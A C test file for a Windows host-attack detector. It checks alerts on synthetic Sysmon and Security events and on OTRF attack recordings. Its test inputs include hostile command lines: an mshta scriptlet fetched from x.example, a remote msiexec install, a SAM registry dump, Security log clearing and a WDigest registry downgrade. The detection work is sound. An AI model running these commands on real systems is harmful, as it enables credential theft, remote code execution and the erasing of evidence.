/* test_host_attack.c: the host-attack detector (single Windows events that are attack steps),
 * with the shipped data/detect.conf and data/detect/registry_tamper.tsv: each behaviour
 * fires on its event and stays quiet on near misses; then real OTRF recordings. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "behaviour.h"
#include "detect/uac_text.h"

static ts_config *shipped_config(void)
{
    ts_config *c = NULL;
    CHECK(ts_config_load(TOCSIN_DATA_DIR "/detect.conf", &c, NULL, NULL) == TOCSIN_OK);
    return c;
}

static void ev_kv(det *x, const char *dataset, uint32_t code, const char *user, const char *const *kv)
{
    ts_event ev;
    win(&ev, dataset, code, "WS1", T0);
    if (user)
        ev.user = ts_str_c(user);
    set_fields(&ev, kv);
    feed(x, &ev);
}

static void sysmon(det *x, uint32_t code, const char *const *kv)
{
    ev_kv(x, "windows.sysmon", code, NULL, kv);
}

static void test_injection(det *x)
{
    sysmon(x, 8,
           (const char *[]){"SourceImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "TargetImage", "C:\\Windows\\System32\\notepad.exe", "StartFunction",
                            "LoadLibraryW", NULL});
    CHECK_INT(n_got, 1);
    CHECK(n_got && !strcmp(got[0]->techniques, "T1055,T1055.001") && strstr(got[0]->title, "DLL injection"));
    drop_all();
    /* Windows' own remote threads, and a process starting a thread in itself. */
    sysmon(x, 8,
           (const char *[]){"SourceImage", "C:\\Windows\\System32\\csrss.exe", "TargetImage",
                            "C:\\Windows\\System32\\svchost.exe", NULL});
    sysmon(x, 8, (const char *[]){"SourceImage", "C:\\a\\b.exe", "TargetImage", "C:\\A\\B.EXE", NULL});
    CHECK_INT(n_got, 0);
}

static void test_lsass(det *x)
{
    sysmon(x, 10,
           (const char *[]){"SourceImage", "C:\\Users\\bob\\Desktop\\Outflank-Dumpert.exe", "TargetImage",
                            "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1FFFFF", NULL});
    CHECK(find_key("host-attack|lsass|WS1|") && !strcmp(got[0]->techniques, "T1003.001"));
    drop_all();
    /* A query right only, unless the caller runs from code outside any module. */
    sysmon(x, 10,
           (const char *[]){
               "SourceImage", "C:\\tools\\x.exe", "TargetImage", "C:\\Windows\\system32\\lsass.exe",
               "GrantedAccess", "0x1000", "CallTrace",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e", NULL});
    CHECK_INT(n_got, 0);
    sysmon(x, 10,
           (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
                            "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1000", "CallTrace",
                            "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|UNKNOWN(00000000001A0B2C)", NULL});
    CHECK(n_got == 1 && got[0]->severity == 80 && strstr(got[0]->title, "UNKNOWN"));
    drop_all();
    /* Windows' own readers, and full access to another process. */
    sysmon(x, 10,
           (const char *[]){"SourceImage", "C:\\Windows\\system32\\svchost.exe", "TargetImage",
                            "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1fffff", NULL});
    sysmon(x, 10,
           (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
                            "C:\\Windows\\system32\\lsass2.exe", "GrantedAccess", "0x1fffff", NULL});
    CHECK_INT(n_got, 0);
}

static void test_registry(det *x)
{
    sysmon(x, 13,
           (const char *[]){
               "EventType", "SetValue", "TargetObject",
               "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
               "Details", "DWORD (0x00000001)", "Image", "C:\\x\\reg.exe", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1112,T1003.001") && strstr(got[0]->title, "WDigest"));
    drop_all();
    /* Older Sysmon writes the number alone. */
    sysmon(x, 13,
           (const char *[]){
               "EventType", "SetValue", "TargetObject",
               "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
               "Details", "1", NULL});
    CHECK_INT(n_got, 1);
    drop_all();
    /* Turning it off again, deleting it, or a key that only ends alike. */
    sysmon(x, 13,
           (const char *[]){
               "EventType", "SetValue", "TargetObject",
               "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
               "Details", "DWORD (0x00000000)", NULL});
    sysmon(x, 12,
           (const char *[]){"EventType", "DeleteValue", "TargetObject",
                            "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", NULL});
    sysmon(x, 13,
           (const char *[]){"EventType", "SetValue", "TargetObject",
                            "HKLM\\System\\CurrentControlSet\\Services\\NotEventLog\\Start", "Details",
                            "DWORD (0x00000004)", NULL});
    CHECK_INT(n_got, 0);
    /* Any write under a "*" row: the MiniNt key created. */
    sysmon(x, 12,
           (const char *[]){"EventType", "CreateKey", "TargetObject",
                            "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", NULL});
    CHECK(n_got == 1 && strstr(got[0]->techniques, "T1685.001"));
    drop_all();
    /* Security 4657: key and value name apart. */
    ev_kv(x, "windows.security", 4657, "admin",
          (const char *[]){"ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\EventLog",
                           "ObjectValueName", "Start", "NewValue", "4", "ProcessName",
                           "C:\\Windows\\regedit.exe", NULL});
    CHECK(n_got == 1 && strstr(got[0]->title, "Event Log service"));
    drop_all();
    ev_kv(x, "windows.security", 4657, "admin",
          (const char *[]){"ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\EventLog",
                           "ObjectValueName", "Start", "NewValue", "2", NULL});
    CHECK_INT(n_got, 0);
}

static void test_logging_and_accounts(det *x)
{
    ev_kv(
        x, "windows.system", 7040, NULL,
        (const char *[]){"param1", "Windows Event Log", "param2", "auto start", "param3", "disabled", NULL});
    CHECK(n_got == 1 && strstr(got[0]->techniques, "T1685.001"));
    drop_all();
    ev_kv(x, "windows.system", 7040, NULL,
          (const char *[]){"param1", "Windows Update", "param2", "auto start", "param3", "disabled", NULL});
    ev_kv(x, "windows.system", 7036, NULL,
          (const char *[]){"param1", "Windows Event Log", "param2", "running", NULL});
    ev_kv(x, "windows.security", 4719, "admin", (const char *[]){"AuditPolicyChanges", "%%8449", NULL});
    CHECK_INT(n_got, 0);
    ev_kv(x, "windows.security", 4719, "admin",
          (const char *[]){"AuditPolicyChanges", "%%8448, %%8450", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1685.001"));
    drop_all();

    ev_kv(x, "windows.security", 5136, "pgustavo",
          (const char *[]){"AttributeLDAPDisplayName", "nTSecurityDescriptor", "ObjectDN",
                           "DC=theshire,DC=local", NULL});
    CHECK(n_got == 1 && strstr(got[0]->techniques, "T1222.001"));
    drop_all();
    ev_kv(x, "windows.security", 5136, "DC01$",
          (const char *[]){"AttributeLDAPDisplayName", "nTSecurityDescriptor", "ObjectDN", "CN=x", NULL});
    ev_kv(x, "windows.security", 5136, "pgustavo",
          (const char *[]){"AttributeLDAPDisplayName", "description", "ObjectDN", "CN=x", NULL});
    CHECK_INT(n_got, 0);

    ev_kv(x, "windows.security", 4702, "pgustavo",
          (const char *[]){"TaskName", "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
                           NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1053.005"));
    drop_all();
    ev_kv(x, "windows.security", 4702, "WS1$",
          (const char *[]){"TaskName", "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask",
                           NULL});
    ev_kv(x, "windows.security", 4698, "bob",
          (const char *[]){"TaskName", "\\OneDrive Standalone Update Task", NULL});
    CHECK_INT(n_got, 0);

    ev_kv(x, "windows.security", 4799, "pgustavo",
          (const char *[]){"CallerProcessName", "C:\\Windows\\System32\\net1.exe", "TargetUserName",
                           "Administrators", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1069.001"));
    drop_all();
    ev_kv(x, "windows.security", 4799, "WS1$",
          (const char *[]){"CallerProcessName", "C:\\Windows\\System32\\consent.exe", "TargetUserName",
                           "Administrators", NULL});
    CHECK_INT(n_got, 0);
}

static void test_secrets_pipes_accounts(det *x)
{
    ev_kv(x, "windows.security", 4656, "pgustavo",
          (const char *[]){"ObjectType", "Key", "ObjectName",
                           "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\JD", "ProcessName",
                           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1003.002,T1003.004"));
    drop_all();
    /* lsass itself; the Lsa key (not its boot-key subkeys); a key that only ends alike. */
    ev_kv(x, "windows.security", 4663, "WS1$",
          (const char *[]){"ObjectType", "Key", "ObjectName",
                           "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\JD", "ProcessName",
                           "C:\\Windows\\System32\\lsass.exe", NULL});
    ev_kv(x, "windows.security", 4656, "pgustavo",
          (const char *[]){"ObjectType", "Key", "ObjectName",
                           "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa", "ProcessName",
                           "C:\\x\\csc.exe", NULL});
    ev_kv(x, "windows.security", 4656, "pgustavo",
          (const char *[]){"ObjectType", "Key", "ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\App\\NotJD",
                           "ProcessName", "C:\\x\\a.exe", NULL});
    CHECK_INT(n_got, 0);

    ev_kv(x, "windows.security", 5145, "pgustavo",
          (const char *[]){"ShareName", "\\\\*\\IPC$", "RelativeTargetName", "svcctl", "IpAddress",
                           "172.18.39.5", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1021.002,T1569.002") &&
          strstr(got[0]->title, "172.18.39.5"));
    drop_all();
    /* A machine account, a pipe not in the table, a file share. */
    ev_kv(x, "windows.security", 5145, "WEC$",
          (const char *[]){"ShareName", "\\\\*\\IPC$", "RelativeTargetName", "samr", NULL});
    ev_kv(x, "windows.security", 5145, "pgustavo",
          (const char *[]){"ShareName", "\\\\*\\IPC$", "RelativeTargetName", "lsarpc", NULL});
    ev_kv(x, "windows.security", 5145, "pgustavo",
          (const char *[]){"ShareName", "\\\\*\\C$", "RelativeTargetName", "svcctl", NULL});
    CHECK_INT(n_got, 0);

    /* DCSync: replication rights used by a user account; a DC's own replication is quiet. */
    ev_kv(x, "windows.security", 4662, "pgustavo",
          (const char *[]){"SubjectUserName", "pgustavo", "Properties",
                           "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-"
                           "afd3-00c04fd930c9}",
                           NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1003.006"));
    drop_all();
    ev_kv(x, "windows.security", 4662, "DC2$",
          (const char *[]){"SubjectUserName", "DC2$", "Properties",
                           "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", NULL});
    ev_kv(x, "windows.security", 4662, "pgustavo",
          (const char *[]){"SubjectUserName", "pgustavo", "Properties",
                           "%%7684 {bf9679c0-0de6-11d0-a285-00aa003049e2}", NULL});
    CHECK_INT(n_got, 0);

    ev_kv(x, "windows.security", 4742, "ANONYMOUS LOGON",
          (const char *[]){"SubjectUserName", "ANONYMOUS LOGON", "SubjectUserSid", "S-1-5-7",
                           "TargetUserName", "DC1$", "PasswordLastSet", "9/16/2020 11:40:05 PM", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1210,T1098") && got[0]->severity >= 90);
    drop_all();
    ev_kv(x, "windows.security", 4742, "DC1$",
          (const char *[]){"SubjectUserName", "DC1$", "SubjectUserSid", "S-1-5-18", "TargetUserName", "DC1$",
                           NULL});
    CHECK_INT(n_got, 0);
    ev_kv(x, "windows.security", 4732, "admin",
          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "Administrators", "MemberName",
                           "CN=eve", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1098.007"));
    drop_all();
    ev_kv(x, "windows.security", 4732, "admin",
          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "Print Users", "MemberName",
                           "CN=eve", NULL});
    CHECK_INT(n_got, 0);
    ev_kv(x, "windows.security", 4738, "admin",
          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl",
                           "\r\n\t\t%%2096", NULL});
    CHECK(n_got == 1 && strstr(got[0]->techniques, "T1558.004"));
    /* The title names the flags as Event Viewer does (data/detect/uac_messages.tsv), without
       the record's line breaks and tabs. */
    CHECK(n_got &&
          !strcmp(got[0]->title, "admin set risky flags on svc_sql: 'Don't Require Preauth' - Enabled"));
    drop_all();
    /* Several changes, one a flag the table does not name (shown as it stands), and an export
       that kept Event Viewer's wording: items joined by ", ", words of a text by one space. */
    ev_kv(x, "windows.security", 4738, "admin",
          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl",
                           "\r\n\t\t%%2048\r\n\t\t%%2050 %%2089\r\n\t\t%%2070", NULL});
    CHECK(n_got == 1 &&
          !strcmp(got[0]->title, "admin set risky flags on svc_sql: Account Enabled, 'Password Not "
                                 "Required' - Disabled, 'Don't Expire Password' - Enabled, %%2070"));
    drop_all();
    ev_kv(x, "windows.security", 4738, "admin",
          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl",
                           "\n\t\t'Don't Expire Password' - Enabled\n\t\tAccount  Enabled", NULL});
    CHECK(n_got == 1 && !strcmp(got[0]->title, "admin set risky flags on svc_sql: 'Don't Expire Password' - "
                                               "Enabled, Account Enabled"));
    drop_all();
    ev_kv(x, "windows.security", 4738, "admin",
          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl", "-",
                           NULL});
    CHECK_INT(n_got, 0);
    /* A new account, created disabled and without a password (as Windows creates every one,
       the real new-user-security.evtx sample shows it), is no weakening; the same flag on an
       enabled new account, or set later, is. */
    ev_kv(x, "windows.security", 4720, "fsir",
          (const char *[]){"SubjectUserName", "fsir", "TargetUserName", "archir", "UserAccountControl",
                           "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", NULL});
    CHECK_INT(n_got, 0);
    ev_kv(x, "windows.security", 4720, "fsir",
          (const char *[]){"SubjectUserName", "fsir", "TargetUserName", "archir2", "UserAccountControl",
                           "\r\n\t\t%%2082\r\n\t\t%%2084", NULL});
    ev_kv(x, "windows.security", 4738, "fsir",
          (const char *[]){"SubjectUserName", "fsir", "TargetUserName", "archir3", "UserAccountControl",
                           "\r\n\t\t%%2082", NULL});
    CHECK_INT(n_got, 2);
    drop_all();
}

static void start(det *x, const char *image, const char *cmd, const char *parent, const char *parent_cmd)
{
    ts_event ev;
    win(&ev, "windows.sysmon", 1, "WS1", T0);
    ev.process = ts_str_c(image);
    ev.command_line = ts_str_c(cmd);
    ev.parent_process = ts_str_c(parent);
    set_fields(&ev,
               (const char *[]){"Image", image, "CommandLine", cmd, "ParentCommandLine", parent_cmd, NULL});
    feed(x, &ev);
}

static void test_process_starts(det *x)
{
    start(x, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
          "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /u "
          "c:\\ProgramData\\g.dll",
          "C:\\Windows\\System32\\cmd.exe", "");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.004"));
    drop_all();
    start(x, "C:\\Windows\\System32\\mshta.exe",
          "mshta.exe javascript:a=GetObject('script:https://x.example/a.sct')",
          "C:\\Windows\\System32\\cmd.exe", "");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.005"));
    drop_all();
    /* An installer from the network is abuse; from a user's folder or a deployment share it is
     * how software arrives (remote_only). */
    start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec /q /i http://198.51.100.7/a.msi",
          "C:\\Windows\\System32\\cmd.exe", "");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.007"));
    drop_all();
    start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i C:\\Users\\bob\\Downloads\\7z.msi",
          "C:\\Windows\\explorer.exe", "");
    start(x, "C:\\Windows\\System32\\msiexec.exe",
          "msiexec.exe /i \"\\\\deploy-01\\Packages\\office.msi\" /qn", "C:\\Windows\\System32\\svchost.exe",
          "");
    CHECK_INT(n_got, 0);
    /* The same programs on Windows' own files; a program not in the table. */
    start(x, "C:\\Windows\\System32\\rundll32.exe",
          "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll "
          "{9aa46009} -Embedding",
          "C:\\Windows\\System32\\svchost.exe", "");
    start(x, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\System32\\msiexec.exe /V",
          "C:\\Windows\\System32\\services.exe", "");
    start(x, "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\bob\\a.txt",
          "C:\\Windows\\explorer.exe", "");
    CHECK_INT(n_got, 0);

    /* A script host starting PowerShell: the script's language from its name. */
    start(x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -noP -enc AAAA",
          "C:\\Windows\\System32\\wscript.exe",
          "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\p\\Desktop\\launcher.vbs\"");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1059.005"));
    drop_all();
    start(x, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami", "C:\\Windows\\System32\\cscript.exe",
          "cscript.exe //nologo C:\\Users\\p\\x.jse");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1059.007"));
    drop_all();
    /* Command lines that dump credentials or clear logs; their harmless relatives. */
    start(x, "C:\\Windows\\System32\\reg.exe", "\"C:\\windows\\system32\\reg.exe\" save HKLM\\sam sam",
          "C:\\Windows\\System32\\cmd.exe", "");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1003.002"));
    drop_all();
    start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", "C:\\Windows\\System32\\cmd.exe",
          "");
    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1685.005"));
    drop_all();
    start(x, "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SOFTWARE\\Corp backup.hiv",
          "C:\\Windows\\System32\\cmd.exe", "");
    start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil qe Security /c:5",
          "C:\\Windows\\System32\\cmd.exe", "");
    CHECK_INT(n_got, 0);

    /* A logon script; a script host starting something that is not a shell. */
    start(x, "C:\\Windows\\System32\\cmd.exe", "cmd /c net use", "C:\\Windows\\System32\\wscript.exe",
          "wscript.exe \\\\corp\\NETLOGON\\logon.vbs");
    start(x, "C:\\Windows\\System32\\notepad.exe", "notepad", "C:\\Windows\\System32\\wscript.exe",
          "wscript.exe C:\\Users\\p\\a.vbs");
    CHECK_INT(n_got, 0);
}

static void connection(det *x, const char *image, const char *dst, uint16_t port)
{
    ts_event ev;
    win(&ev, "windows.sysmon", 3, "WS1", T0);
    ev.process = ts_str_c(image);
    ev.dst_ip = ip_of(dst);
    ev.dst_port = port;
    ev.user = ts_str_c("CORP\\pgustavo");
    feed(x, &ev);
}

/* Sysmon 3: a program in a user's folder querying the directory over LDAP is discovery; the
 * same from Windows' folders, or the dropped program on another port, is nothing. */
static void test_ldap(det *x)
{
    connection(x, "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe", "172.18.38.5", 389);
    connection(x, "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe", "172.18.38.5", 389);
    connection(x, "C:\\Users\\pgustavo\\Downloads\\AdFind.exe", "172.18.38.5", 3268);
    CHECK_INT(n_got, 3);
    CHECK(n_got && !strcmp(got[0]->techniques, "T1087.002,T1069.002") &&
          strstr(got[0]->title, "GruntHTTP.exe, in a user-writable place, queried the directory over LDAP "
                                "(172.18.38.5:389)"));
    CHECK(n_got == 3 && !strcmp(got[0]->key, got[1]->key) && strstr(got[2]->title, "AdFind.exe"));
    drop_all();
    connection(x, "C:\\Windows\\System32\\dsac.exe", "172.18.38.5", 389);
    connection(x, "C:\\Windows\\System32\\lsass.exe", "172.18.38.5", 636);
    connection(x, "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe", "203.0.113.7", 443);
    CHECK_INT(n_got, 0);
    drop_all();
}

static void dcom_excel(det *x, const char *host, int64_t ts)
{
    ts_event ev;
    win(&ev, "windows.sysmon", 1, host, ts);
    ev.process = ts_str_c("C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\EXCEL.EXE");
    ev.command_line = ts_str_c("\"C:\\Program Files (x86)\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" "
                               "/automation -Embedding");
    ev.parent_process = ts_str_c("C:\\Windows\\System32\\svchost.exe");
    feed(x, &ev);
}

/* Excel started by DCOM's launcher two seconds after a user's network logon from another
 * machine is DCOM lateral movement; started so with no such logon (a local script automating
 * it), after a machine account's or the host's own logon, or ten minutes later, it is not. */
static void test_dcom(const ts_config *cfg)
{
    det x;
    CHECK(det_open(&x, "host-attack", cfg));
    ts_event ev;
    logon(&ev, 4624, "pgustavo", "WS6", "172.18.39.5", NULL, 3, T0);
    feed(&x, &ev);
    dcom_excel(&x, "WS6", T0 + 2 * 1000000000LL);
    CHECK_INT(n_got, 1);
    CHECK(n_got && !strcmp(got[0]->techniques, "T1021.003") &&
          strstr(got[0]->title, "EXCEL.EXE started through DCOM") &&
          strstr(got[0]->title, "pgustavo from 172.18.39.5"));
    drop_all();
    dcom_excel(&x, "WS7", T0 + 3 * 1000000000LL); /* no logon on WS7 */
    logon(&ev, 4624, "WS8$", "WS8", "172.18.39.9", NULL, 3, T0);
    feed(&x, &ev);
    dcom_excel(&x, "WS8", T0 + 3 * 1000000000LL);
    logon(&ev, 4624, "bob", "WS9", "127.0.0.1", NULL, 3, T0);
    feed(&x, &ev);
    dcom_excel(&x, "WS9", T0 + 3 * 1000000000LL);
    dcom_excel(&x, "WS6", T0 + 10 * MIN);
    CHECK_INT(n_got, 0);
    drop_all();
    det_close(&x);
}

static void key_read(det *x, const char *process, const char *key, int64_t ts)
{
    ts_event ev;
    win(&ev, "windows.security", 4663, "WS1", ts);
    set_fields(&ev, (const char *[]){"ObjectType", "Key", "ObjectName", key, "ProcessName", process, NULL});
    feed(x, &ev);
}

/* Audited registry keys read by a program in a user's folder: four distinct ones within five
 * minutes is registry discovery, said once; two (a .NET program starting), the same key over
 * and over, or any number by a program in Windows' folders, is not. */
static void test_registry_query(const ts_config *cfg)
{
    det x;
    CHECK(det_open(&x, "host-attack", cfg));
    static const char *const keys[] = {
        "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\.NETFramework",
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa",
        "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\chrome.exe",
        "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Session Manager\\Environment",
        "\\REGISTRY\\USER\\S-1-5-21-1-500\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU"};
    for (int i = 0; i < 5; i++)
        key_read(&x, "C:\\Users\\wardog\\Desktop\\Seatbelt.exe", keys[i], T0 + i * 1000000000LL);
    CHECK_INT(n_got, 1);
    CHECK(n_got && !strcmp(got[0]->techniques, "T1012") && strstr(got[0]->title, "Seatbelt.exe") &&
          strstr(got[0]->title, "read 4 audited registry keys"));
    drop_all();
    for (int i = 0; i < 6; i++) {
        key_read(&x, "C:\\Users\\bob\\AppData\\Local\\App\\app.exe", keys[i % 2], T0 + i * MIN);
        key_read(&x, "C:\\Users\\bob\\AppData\\Local\\Tool\\tool.exe", keys[0], T0 + i * MIN);
    }
    for (int i = 0; i < 5; i++)
        key_read(&x, "C:\\Windows\\System32\\svchost.exe", keys[i], T0 + i * 1000000000LL);
    for (int i = 0; i < 5; i++) /* four keys, but spread over 40 minutes */
        key_read(&x, "C:\\Users\\bob\\Desktop\\slow.exe", keys[i], T0 + i * 10 * MIN);
    CHECK_INT(n_got, 0);
    drop_all();
    det_close(&x);
}

/* The flags' text within its cap: cut on a character boundary with "...", never a broken
 * UTF-8 sequence, bytes that are not UTF-8 replaced. */
static void test_uac_describe(void)
{
    uac_table t;
    size_t line;
    CHECK(uac_table_load(&t, TOCSIN_DATA_DIR "/detect/uac_messages.tsv", &line) == TOCSIN_OK);
    CHECK(t.n >= 30);
    char buf[64];
    CHECK_STR(uac_describe(&t, ts_str_c("%%2080\r\n\t\t%%2082\r\n\t\t%%2084"), buf, sizeof buf),
              "Account Disabled, 'Password Not Required' - Enabled, 'Normal...");
    CHECK(strlen(buf) < sizeof buf && ts_utf8_valid(buf, strlen(buf)));
    /* "é" is two bytes: 30 of them fill 60 of the 60 bytes the text may take; one more cuts. */
    char wide[128] = "";
    for (int i = 0; i < 31; i++)
        strcat(wide, "\xC3\xA9");
    uac_describe(&t, ts_str_c(wide), buf, sizeof buf);
    CHECK_INT(strlen(buf), 63);
    CHECK(ts_utf8_valid(buf, strlen(buf)) && !strcmp(buf + 60, "..."));
    CHECK_STR(uac_describe(&t, ts_str_c("a\xFF\xC3 %%2089"), buf, sizeof buf),
              "a\xEF\xBF\xBD\xEF\xBF\xBD, 'Don't Expire Password' - Enabled");
    CHECK_STR(uac_describe(&t, ts_str_c(" \r\n "), buf, sizeof buf), "");
    uac_table_free(&t);
}

/* The real samples of evtx-parser-samples in which 4738 changes an account's flags: the
 * risky-flags title names them as Event Viewer does. */
static void test_evtx_samples(const ts_config *cfg)
{
    const char *d = shared_data("host-attack on evtx-parser-samples' 4738 events");
    if (!d)
        return;
    static const struct {
        const char *file, *title;
    } cases[] = {
        {"security.evtx",
         "fsir set risky flags on archir: Account Enabled, 'Password Not Required' - Disabled, "
         "'Don't Expire Password' - Enabled"},
        {"post-Security.evtx", "WIN-F0HKLEEGGT1$ set risky flags on John: 'Don't Expire Password' - Enabled"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s/evtx-parser-samples/samples/%s", d, cases[i].file);
        det x;
        CHECK(det_open(&x, "host-attack", cfg));
        CHECK(feed_file(&x, path) > 0);
        size_t risky = 0;
        for (size_t k = 0; k < n_got; k++)
            if (got[k]->key && strstr(got[k]->key, "|risky-flags|")) {
                risky++;
                if (strcmp(got[k]->title, cases[i].title))
                    fprintf(stderr, "%s: %s\n", cases[i].file, got[k]->title);
                CHECK_STR(got[k]->title, cases[i].title);
            }
        CHECK_INT(risky, 1);
        drop_all();
        det_close(&x);
    }
}

/* Real recordings (OTRF Security Datasets): the step is found, and the lab's background
 * raises nothing of this detector's that is not the step. */
static void test_otrf(const ts_config *cfg)
{
    const char *d = shared_data("host-attack on OTRF recordings");
    if (!d)
        return;
    static const struct {
        const char *file, *technique;
        size_t max_alerts;
    } cases[] = {
        {"defense_evasion/empire_wdigest_downgrade.json.gz", "T1112", 1},
        {"credential_access/cmd_lsass_memory_dumpert_syscalls.json.gz", "T1003.001", 1},
        {"defense_evasion/empire_dllinjection_LoadLibrary_CreateRemoteThread.json.gz", "T1055.001", 1},
        {"defense_evasion/reg_cmd_process_commandline_logging_disabled.json.gz", "T1685.001", 1},
        {"defense_evasion/cmd_psh_stop_netprofm_eventlog_before_reboot.json.gz", "T1685.001", 1},
        {"lateral_movement/schtask_modification.json.gz", "T1053.005", 1},
        {"credential_access/empire_powerdump_sam_access.json.gz", "T1003.002", 1},
        {"lateral_movement/mimikatz_CVE-2020-1472_Unauthenticated_NetrServerAuthenticate2.json.gz", "T1210",
         0},
        {"lateral_movement/covenant_sharpsc_query_dcerpc_smb_svcctl.json.gz", "T1021.002", 0},
        {"defense_evasion/covenant_installutil.json.gz", "T1218.004", 0},
        {"credential_access/covenant_dcsync_dcerpc_drsuapi_DsGetNCChanges.json.gz", "T1003.006", 0},
        {"execution/empire_launcher_vbs.json.gz", "T1059", 0},
        {"discovery/covenant_getdomaingroup_ldap_searchrequest_domain_admins.json.gz", "T1069.002", 0},
        {"lateral_movement/covenant_dcom_registerxll.json.gz", "T1021.003", 0},
        {"discovery/cmd_seatbelt_group_user.json.gz", "T1012", 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s/otrf-atomic/%s", d, cases[i].file);
        det x;
        CHECK(det_open(&x, "host-attack", cfg));
        CHECK(feed_file(&x, path) > 0);
        size_t with = 0;
        for (size_t k = 0; k < n_got; k++)
            with +=
                cases[i].technique && got[k]->techniques && strstr(got[k]->techniques, cases[i].technique);
        if (cases[i].technique)
            CHECK(with >= 1);
        if (n_got - with > cases[i].max_alerts)
            fprintf(stderr, "%s: %zu alerts without the technique\n", cases[i].file, n_got - with);
        CHECK(n_got - with <= cases[i].max_alerts);
        drop_all();
        det_close(&x);
    }
}

int main(void)
{
    ts_config *cfg = shipped_config();
    det x;
    CHECK(det_open(&x, "host-attack", cfg));
    test_injection(&x);
    test_lsass(&x);
    test_registry(&x);
    test_logging_and_accounts(&x);
    test_secrets_pipes_accounts(&x);
    test_process_starts(&x);
    test_ldap(&x);
    det_close(&x);
    test_dcom(cfg);
    test_registry_query(cfg);
    test_otrf(cfg);
    test_uac_describe();
    test_evtx_samples(cfg);
    ts_config_free(cfg);
    return check_done("test_host_attack");
}
